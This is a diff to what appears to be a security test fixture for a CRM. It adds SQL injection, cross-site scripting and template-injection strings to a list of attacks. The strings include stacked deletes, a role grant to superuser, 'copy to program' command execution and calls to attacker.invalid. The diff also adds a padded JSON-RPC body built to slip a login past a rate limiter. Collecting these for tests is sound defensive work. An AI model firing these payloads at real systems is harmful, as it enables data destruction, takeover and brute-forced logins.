@@ -11,6 +11,15 @@ ATTACKS = {
     "union of nulls": "1 UNION ALL SELECT NULL,NULL--",
     "union of a function": "' union select version()--",
     "union, quoted names": 'x\' union select "login" from "res_user"',
+    "union in brackets": "x' union(select 1)--",
+    "union of a whole table": "x' union table res_user--",
+    "union of rows": "x' union values(1)--",
+    "schema before the table": "select login from public.res_user",
+    "table behind another": "select u.login from party_party p, res_user u",
+    "table in quotes, no blank": 'select login from"res_user"',
+    "condition without blanks": "x'or'1'='1",
+    "condition of a column": "x' or login='admin'--",
+    "condition that says true": "' or true--",
     "condition that is true": "x' or '1'='1",
     "condition with double quotes": '" or "1"="1',
     "condition and comment": "x' or 1--",
@@ -18,11 +27,20 @@ ATTACKS = {
     "condition with and": "x' and 1=1 and 'a'='a",
     "second statement": "x'; delete from party_party",
     "second statement, updates": "1; update res_user set active = false",
+    "second statement, only this table": "'; delete from only res_user--",
+    "second statement, no table": "'; alter role crm with superuser--",
+    "truncate, no table": "'; truncate res_user--",
     "schema": "1; drop schema public cascade",
     "truncate": "1;truncate table sale_sale",
     "sleep": "1; select pg_sleep(10)",
     "reads the catalogue": "(select table_name from information_schema.tables)",
     "program by copy": "x'; copy res_user to program 'id'",
+    "program by copy of a query": "'; copy (select 1) to program 'id'--",
+    "function that reaches out": "dblink_connect('host=attacker.invalid')",
+    "table as XML": "x' and query_to_xml('select 1',true,false,'') is not null--",
+    "handler behind a quote": '" onmouseover=alert(1) x="',
+    "handler behind a quote, no blank": '"onfocus="alert(1)"autofocus="',
+    "address that is told of a click": "<p ping=//attacker.invalid>",
     "handler on any element": "<b onmouseover=alert(1)>",
     "handler behind a slash": "<x/onclick=alert(1)>",
     "handler behind a line": "<p\nonclick\n=alert(1)>",
@@ -61,3 +79,9 @@ ATTACKS = {
     "expression": "${7*7}",
     "expression of Java": "${T(java.lang.Runtime).getRuntime().exec('id')}",
 }
+
+#: The CRM takes the second of two methods; the router limits logins only where the edge has seen one.
+LOGIN_BEHIND = (
+    b'{"id": 0, "method": "model.party.party.import_data", "params": [["' + b"x" * 17000 + b'"]],'
+    b' "method": "common.db.login", "params": ["nobody-of-that-name", {"password": "x"}, "en"]}'
+)
